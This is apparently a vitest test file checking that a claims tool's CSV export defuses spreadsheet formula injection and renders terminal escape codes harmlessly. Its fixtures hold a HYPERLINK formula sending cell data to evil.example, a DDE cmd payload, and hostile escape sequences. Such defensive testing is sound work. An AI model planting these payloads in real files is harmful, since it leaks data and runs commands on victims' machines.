import { execFile } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../../src/terminal/cli.ts';
import type { Claim, Dataset } from '../../src/core/schema.ts';
import { REPO, SHIPPED_CLAIMS } from '../support/files.ts';
import { freshDatabaseUrls } from '../support/store.ts';

const run = promisify(execFile);
const BIN = join(REPO, 'bin/claimbot.js');
const freshDatabaseUrl = freshDatabaseUrls();
const STORY = 'north-korean-troops-in-russia';

/** Claims whose text a spreadsheet would run or a terminal would obey. */
const HOSTILE: Claim[] = [
  {
    id: 'formula-statement',
    story: STORY,
    statement: '=HYPERLINK("https://evil.example/?"&A1,"Click for details")',
    quote: false,
    claimant: { name: '@SUM(1+1)*cmd|" /C calc"!A0', description: '+44 20 7946 0000' },
    attribution: { reportedBy: { outlet: '-Outlet' } },
    context: '-2+3',
    note: "'=already quoted by its author",
    tags: [],
    verdict: 'false',
    flags: [],
    createdAt: '2026-11-26T00:00:00.000Z',
    updatedAt: '2026-11-26T00:00:00.000Z',
    addedBy: 'tester',
  },
  {
    id: 'escapes-statement',
    story: STORY,
    statement: 'Troops \x1b]8;;https://evil.example\x07seen\x1b]8;;\x07 at the \x1b[31mborder\x1b[0m \u009b2J \u202eevil',
    quote: false,
    claimant: { name: 'Someone \x1b[2J' },
    attribution: { reportedBy: { outlet: 'Outlet' } },
    tags: [],
    verdict: 'unverified',
    flags: [],
    createdAt: '2026-11-26T00:00:00.000Z',
    updatedAt: '2026-11-26T00:00:00.000Z',
    addedBy: 'tester',
  },
];

let dir: string;
const databaseUrl = freshDatabaseUrl();

async function cli(args: string[], url = databaseUrl) {
  const out: string[] = [];
  const err: string[] = [];
  const code = await runCli(args, { DATABASE_URL: url, CLAIMS_PATH: SHIPPED_CLAIMS }, { out: (text) => out.push(text), err: (text) => err.push(text) });
  return { code, stdout: out.join('\n'), stderr: err.join('\n') };
}

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'claimbot-export-'));
  await writeFile(join(dir, 'hostile.json'), JSON.stringify({ stories: [], claims: HOSTILE }));
  expect(await cli(['import', join(dir, 'hostile.json')])).toMatchObject({ code: 0, stderr: 'Imported: 2 added, 0 updated.' });
});
afterAll(() => rm(dir, { recursive: true, force: true }));

const env = () => ({ ...process.env, DATABASE_URL: databaseUrl, CLAIMS_PATH: SHIPPED_CLAIMS });

describe('claimbot export --format csv of claims that hold formulas and terminal escapes', () => {
  it('starts every cell a spreadsheet would run with a quote', async () => {
    const file = join(dir, 'claims.csv');
    await cli(['export', '--format', 'csv', '--out', file]);
    const csv = await readFile(file, 'utf8');
    const row = csv.split('\r\n').find((line) => line.startsWith('formula-statement,'))!;
    const claimCells =
      'formula-statement,north-korean-troops-in-russia,"\'=HYPERLINK(""https://evil.example/?""&A1,""Click for details"")",false,' +
      '"\'@SUM(1+1)*cmd|"" /C calc""!A0",\'+44 20 7946 0000,,\'-Outlet,,,\'-2+3,,false,,\'\'=already quoted by its author,' +
      '2026-11-26T00:00:00.000Z,2026-11-26T00:00:00.000Z,tester,';
    expect(row.slice(0, claimCells.length)).toBe(claimCells);
  });

  it("reads back as exactly the claims it came from (the quotes it added are removed, the author's kept)", async () => {
    const file = join(dir, 'roundtrip.csv');
    await cli(['export', '--format', 'csv', '--out', file]);
    const other = freshDatabaseUrl();
    expect(await cli(['import', file], other)).toMatchObject({ code: 0 });
    const exported = async (url: string) => (JSON.parse((await cli(['export'], url)).stdout) as Dataset).claims.filter((claim) => claim.addedBy === 'tester');
    const [original, copy] = [await exported(databaseUrl), await exported(other)];
    expect(copy.map((claim) => [claim.statement, claim.claimant, claim.attribution, claim.context, claim.note])).toEqual(
      [HOSTILE[1]!, HOSTILE[0]!].map((claim) => [claim.statement, claim.claimant, claim.attribution, claim.context, claim.note]),
    );
    expect(copy.map(({ updatedAt: _, ...claim }) => claim)).toEqual(original.map(({ updatedAt: _, ...claim }) => claim));
  });

  it('to a pipe: byte for byte what --out writes, escapes and all', async () => {
    const file = join(dir, 'piped.csv');
    await cli(['export', '--format', 'csv', '--out', file]);
    const { stdout } = await run(BIN, ['export', '--format', 'csv'], { cwd: REPO, env: env() });
    expect(stdout).toBe(`${(await readFile(file, 'utf8')).trimEnd()}\n`);
    expect(stdout).toContain('\x1b[31mborder\x1b[0m \u009b2J \u202eevil');
  });

  it('to a terminal: the escapes are shown as symbols, not obeyed', async () => {
    // `script` runs the command on a pseudo-terminal, as a person's shell would.
    const { stdout } = await run('script', ['-qec', `${BIN} export --format csv`, '/dev/null'], { cwd: REPO, env: env() });
    expect(stdout).toContain('Troops ␛]8;;https://evil.example␇seen␛]8;;␇ at the ␛[31mborder␛[0m <U+009B>2J <U+202E>evil');
    expect(stdout).toContain('Someone ␛[2J');
    expect(stdout).not.toMatch(/[\x1b\x07\u009b\u202e]/);
  });
});
